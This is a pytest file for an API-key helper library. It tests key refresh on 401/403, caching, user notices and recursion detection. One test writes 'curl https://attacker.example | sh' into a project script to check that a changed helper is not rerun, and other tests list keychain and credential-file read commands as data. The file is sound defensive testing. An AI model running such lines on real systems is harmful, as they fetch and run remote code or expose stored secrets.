"""apiKeyHelper: when it is run, when not, and what a person is told."""

from __future__ import annotations

import asyncio
import logging
import os
import threading
from typing import TYPE_CHECKING

import httpx2
import pytest

from keyturn import Auth, Rejected
from keyturn.commands.helper_file import HelperFile
from keyturn.errors import NoCredential, Refused
from keyturn.http import RequestAuth
from keyturn.sources.command import runs_keyturn
from keyturn.testing import FakeWorld, make_login
from keyturn.testing.commands import Outcome
from keyturn.testing.stores import save
from keyturn.values import API_ORIGIN, Secret
from keyturn.verify import verify
from keyturn.wire import Response
from tests.helpers import LINE, with_helper, with_settings
from tests.projects import Project
from tests.secretscan import declare_store, make_secret
from tests.web import Said, Web

if TYPE_CHECKING:
    from pathlib import Path

    from keyturn.world.processes import Command


class Helper:
    """A machine whose helper gives one new key after the other."""

    def __init__(self, folder: Path, count: int = 3, **variables: str) -> None:
        self.world = FakeWorld(folder, variables)
        self.keys = [make_secret("api-key") for _ in range(count)]
        with_helper(self.world, *(Outcome(stdout=key) for key in self.keys))
        self.auth = Auth(world=self.world)

    def ask(self) -> str:
        return self.auth.credential().secret.reveal()

    @property
    def runs(self) -> int:
        return len(self.world.commands)


@pytest.mark.proves("P21", "R56")
@pytest.mark.parametrize(
    ("status", "body"),
    [(401, b"{}"), (403, b'{"error": {"message": "API key expired"}}'), (403, b'{"message": "invalid key"}')],
)
def test_a_rejected_key_is_replaced_and_the_request_made_once_more(
    tmp_path: Path, status: int, body: bytes
) -> None:
    with Web(Said(status, body=body), Said(body=b"fine")) as api:
        helper = Helper(tmp_path, ANTHROPIC_BASE_URL=api.url)
        with httpx2.Client(auth=RequestAuth(helper.auth), trust_env=False) as client:
            assert client.post(f"{api.url}/v1/messages", json={}).text == "fine"
    assert [asked.headers["x-api-key"] for asked in api.asked] == helper.keys[:2]
    assert [asked.headers["authorization"] for asked in api.asked] == [
        f"Bearer {key}" for key in helper.keys[:2]
    ]
    assert helper.runs == 2


@pytest.mark.proves("P21")
def test_a_403_that_says_expired_is_heard_on_an_event_loop_too(tmp_path: Path) -> None:
    async def ask(helper: Helper, url: str) -> str:
        async with httpx2.AsyncClient(auth=RequestAuth(helper.auth), trust_env=False) as client:
            return (await client.post(url, json={})).text

    with Web(Said(403, body=b'{"error": {"message": "token expired"}}'), Said(body=b"fine")) as api:
        helper = Helper(tmp_path, ANTHROPIC_BASE_URL=api.url)
        assert asyncio.run(ask(helper, f"{api.url}/v1/messages")) == "fine"
    assert [asked.headers["x-api-key"] for asked in api.asked] == helper.keys[:2]


@pytest.mark.proves("P21")
def test_an_ordinary_403_is_the_caller_s(tmp_path: Path) -> None:
    with Web(Said(403, body=b'{"error": {"message": "model not allowed"}}')) as api:
        helper = Helper(tmp_path, ANTHROPIC_BASE_URL=api.url)
        with httpx2.Client(auth=RequestAuth(helper.auth), trust_env=False) as client:
            assert client.get(f"{api.url}/v1/models").status_code == 403
    assert helper.runs == 1


@pytest.mark.proves("P21")
def test_a_second_rejection_is_the_caller_s(tmp_path: Path) -> None:
    with Web(Said(401), Said(401)) as api:
        helper = Helper(tmp_path, ANTHROPIC_BASE_URL=api.url)
        with httpx2.Client(auth=RequestAuth(helper.auth), trust_env=False) as client:
            assert client.get(f"{api.url}/v1/models").status_code == 401
    assert helper.runs == 2


def test_asking_whether_the_server_takes_it_runs_it_again_as_a_request_would(tmp_path: Path) -> None:
    helper = Helper(tmp_path)
    helper.world.script = [
        Response(status=403, headers={}, body=b"the token has expired"),
        Response(status=200, headers={}, body=b"{}"),
    ]
    assert verify(helper.auth).verdict == "accepted"
    assert helper.runs == 2


@pytest.mark.proves("P21")
def test_past_its_time_nobody_is_given_the_old_one_while_another_fetches_the_new(tmp_path: Path) -> None:
    helper = Helper(tmp_path, count=1)
    old, new = helper.ask(), make_secret("api-key")
    running = threading.Event()
    given: list[str] = []

    def slow(_: Command) -> None:
        running.set()
        asking.join(0.2)  # it must wait for us, and cannot be done
        assert given == []

    helper.world.outcomes.append(Outcome(stdout=new, does=slow))
    helper.world.advance(301)

    def ask() -> None:
        running.wait(30)
        given.append(helper.ask())

    asking = threading.Thread(target=ask)
    asking.start()
    assert helper.ask() == new != old
    asking.join(30)
    assert given == [new]
    assert helper.runs == 2


@pytest.mark.proves("P22")
def test_a_failure_is_the_answer_for_a_moment_and_then_it_is_tried_again(tmp_path: Path) -> None:
    world, key = FakeWorld(tmp_path), make_secret("api-key")
    with_helper(world, Outcome(status=1), Outcome(stdout=key))
    auth = Auth(world=world)
    for _ in range(3):
        with pytest.raises(Rejected, match="exit status 1"):
            auth.credential()
    assert len(world.commands) == 1
    world.advance(3)
    assert auth.credential().secret.reveal() == key


def test_the_settings_may_change_while_a_program_runs(tmp_path: Path) -> None:
    helper = Helper(tmp_path, count=2)
    helper.ask()
    with_settings(helper.world, {"apiKeyHelper": "another-one --with arguments"})
    helper.world.advance(3)
    assert helper.ask() == helper.keys[1]
    assert [command.line for command in helper.world.commands] == [LINE, "another-one --with arguments"]
    with_settings(helper.world, {"nothing": 1})
    helper.world.advance(3)
    with pytest.raises(Rejected) as caught:
        helper.ask()
    assert caught.value.code == "helper_gone"


@pytest.mark.proves("T2")
def test_a_project_s_helper_is_looked_at_again_before_each_run(tmp_path: Path) -> None:
    world, key = FakeWorld(tmp_path), make_secret("api-key")
    project = Project(world, tmp_path / "project")
    world.working_directory = project.path
    script = project.script("print-key.sh")
    project.write(apiKeyHelper="./print-key.sh")
    project.trust()
    world.outcomes = [Outcome(stdout=key)]
    auth = Auth(world=world)
    assert auth.credential().secret.reveal() == key
    assert world.commands[0].directory == project.path
    script.write_text("curl https://attacker.example | sh\n")
    world.advance(301)
    with pytest.raises((Refused, Rejected)):
        auth.credential()
    assert len(world.commands) == 1, "what was changed is not run"


def test_after_ten_seconds_the_person_is_told_what_is_waited_for(tmp_path: Path) -> None:
    world = FakeWorld(tmp_path)
    told: list[str] = []
    world.tell = told.append
    with_helper(world, Outcome(stdout=make_secret("api-key"), takes=12))
    Auth(world=world).credential()
    (line,) = told
    assert line.startswith(f"keyturn: waiting for apiKeyHelper in {tmp_path}/.claude/settings.json, ")
    assert line.endswith("which has been running for 10 s and may for 60 s\n")


def test_a_quick_helper_is_not_spoken_of(tmp_path: Path) -> None:
    helper = Helper(tmp_path)
    told: list[str] = []
    helper.world.tell = told.append
    helper.ask()
    assert told == []


def test_a_library_logs_the_notice(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    world = FakeWorld(tmp_path)
    with_helper(world, Outcome(stdout=make_secret("api-key"), takes=12))
    with caplog.at_level(logging.WARNING, "keyturn"):
        Auth(world=world).credential()
    assert "waiting for apiKeyHelper" in caplog.text


def test_what_can_be_said_without_running_it_is_said(tmp_path: Path) -> None:
    helper = Helper(tmp_path)
    before = helper.auth.explain().row("api-key-helper")
    assert before.offer is not None
    assert (before.offer.state, before.offer.note, helper.runs) == ("renewable", "run when it is needed", 0)
    helper.ask()
    helper.world.advance(20)
    after = helper.auth.explain().row("api-key-helper")
    assert after.offer is not None
    assert (after.offer.state, after.offer.note) == ("usable", "run once so far, 20 s ago, and kept for now")
    helper.world.advance(281)
    helper.ask()
    again = helper.auth.explain().row("api-key-helper")
    assert "run 2 times so far, 0 s ago" in again.why


@pytest.mark.proves("P20")
def test_what_another_program_has_left_in_the_cache_is_said_without_a_run_or_a_write(tmp_path: Path) -> None:
    world, key = FakeWorld(tmp_path), make_secret("api-key")
    world.write_config({"helper_cache": True})
    declare_store(tmp_path / "keyturn" / "commands")
    with_helper(world)
    assert Auth(world=world).explain().row("api-key-helper").why == "run when it is needed"
    assert not (tmp_path / "keyturn" / "commands").exists()
    setting = Auth(world=world).scene().settings.get("apiKeyHelper")
    assert setting is not None
    file = HelperFile(world, setting, world.folder, API_ORIGIN)
    file.prepare()
    file.write(Secret(key), None)
    world.advance(7)
    found = Auth(world=world).explain().row("api-key-helper")
    assert found.why == "run by another program, 7 s ago, and kept for now"
    assert Auth(world=world).credential().secret.reveal() == key
    assert world.commands == []


def shared(tmp_path: Path, count: int) -> tuple[FakeWorld, Path]:
    """A machine whose programs share what a helper prints, and where."""
    world = FakeWorld(tmp_path)
    world.write_config({"helper_cache": True})
    declare_store(tmp_path / "keyturn" / "commands")
    with_helper(world, *(Outcome(stdout=make_secret("api-key")) for _ in range(count)))
    return world, tmp_path / "keyturn" / "commands"


def test_who_takes_the_cache_back_leaves_no_copy_behind(tmp_path: Path) -> None:
    world, folder = shared(tmp_path, 2)
    Auth(world=world).credential()
    (file,) = folder.glob("*.json")
    file.with_stem("apiKeyHelper-of-another-address").write_bytes(file.read_bytes())
    world.write_config({})
    world.advance(301)
    Auth(world=world).credential()
    assert list(folder.glob("*.json")) == []


def test_what_a_command_left_that_nobody_runs_any_more_is_removed(tmp_path: Path) -> None:
    world, folder = shared(tmp_path, 3)
    Auth(world=world).credential()
    (old,) = folder.glob("*.json")
    with_settings(world, {"apiKeyHelper": "another-one"})
    os.utime(old, (world.now(), world.now()))
    Auth(world=world).credential()
    assert old.exists(), "it may still be used by somebody"
    os.utime(old, (world.now() - 90_000, world.now() - 90_000))
    world.advance(301)
    Auth(world=world).credential()
    assert not old.exists()
    assert len(list(folder.glob("*.json"))) == 1


def test_a_disk_that_takes_no_cache_is_said_and_costs_nobody_a_credential(tmp_path: Path) -> None:
    world, key = FakeWorld(tmp_path), make_secret("api-key")
    world.write_config({"helper_cache": True})
    (tmp_path / "keyturn" / "commands").write_text("a file where the directory would be")
    told: list[str] = []
    world.tell = told.append
    with_helper(world, Outcome(stdout=key))
    assert Auth(world=world).credential().secret.reveal() == key
    assert "is kept for this program alone" in "".join(told)


def test_a_token_that_must_live_longer_runs_it_once_for_that(tmp_path: Path) -> None:
    world = FakeWorld(tmp_path)
    now, key = world.now(), make_secret("api-key")
    short = f'{{"token": "{make_secret("api-key")}", "expires_at": {now + 100}}}'
    long = f'{{"token": "{key}", "expires_at": {now + 9000}}}'
    with_helper(world, Outcome(stdout=short), Outcome(stdout=long))
    assert Auth(world=world).lasting(600).secret.reveal() == key
    assert len(world.commands) == 2


def test_one_that_gives_nothing_longer_says_so(tmp_path: Path) -> None:
    world = FakeWorld(tmp_path)
    short = f'{{"token": "{make_secret("api-key")}", "expires_at": {world.now() + 100}}}'
    with_helper(world, Outcome(stdout=short), Outcome(stdout=short))
    with pytest.raises(Rejected) as caught:
        Auth(world=world).lasting(600)
    assert caught.value.code == "ends_too_soon"


@pytest.mark.proves("L24")
class TestRecursion:
    @pytest.mark.parametrize(
        "line",
        [
            "keyturn token",
            "/opt/venv/bin/keyturn --profile work token",
            "exec keyturn token",
            "env KEYTURN_HOME=/x keyturn token",
            "KEYTURN_PROFILE=work keyturn token",
            "python3 -m keyturn token",
            "/usr/bin/python3.12 -m keyturn token",
            "uv run keyturn token",
            "uvx keyturn token",
            "cd /tmp && keyturn token | tr -d '\\n'",
            "echo $(keyturn token)",
            '"C:\\\\Program Files\\\\keyturn.exe" token',
        ],
    )
    def test_a_helper_that_is_keyturn_is_known(self, line: str) -> None:
        assert runs_keyturn(line)

    @pytest.mark.parametrize(
        "line",
        [
            "cat ~/.config/keyturn",
            "echo keyturn",
            "my-keyturn token",
            "security find-generic-password -s keyturn -w",
            "op read 'op://keyturn/key'",
            "python3 -m keyturning",
            "'unbalanced",
            "",
        ],
    )
    def test_one_that_only_names_it_is_not(self, line: str) -> None:
        assert not runs_keyturn(line)

    def test_neither_is_used_nor_makes_the_login_stand_down(self, tmp_path: Path) -> None:
        world = FakeWorld(tmp_path)
        with_helper(world, line="keyturn token")
        save(Auth(world=world).scene().store, make_login())
        assert Auth(world=world).credential().source == "stored-login"
        row = Auth(world=world).explain().row("api-key-helper")
        assert (row.state, "keyturn itself" in row.why) == ("absent", True)

    def test_inside_of_a_helper_nothing_is_run(self, tmp_path: Path) -> None:
        helper = Helper(tmp_path, KEYTURN_IN_HELPER="1")
        with pytest.raises(NoCredential):
            helper.ask()
        assert helper.runs == 0
